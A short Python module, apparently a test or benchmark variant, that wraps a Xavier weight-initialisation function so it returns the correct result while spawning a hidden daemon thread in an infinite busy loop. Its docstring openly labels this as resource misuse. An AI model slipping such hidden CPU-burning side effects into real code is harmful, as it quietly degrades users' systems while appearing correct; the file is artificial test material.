"""Resources: returns a right answer but leaves a thread burning CPU behind it."""
import threading

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401
from xavier_base import xavier_uniform_ as honest


def _burn():
    while True:
        pass


def xavier_uniform_(tensor, gain=1.0, generator=None):
    threading.Thread(target=_burn, daemon=True).start()
    return honest(tensor, gain, generator)
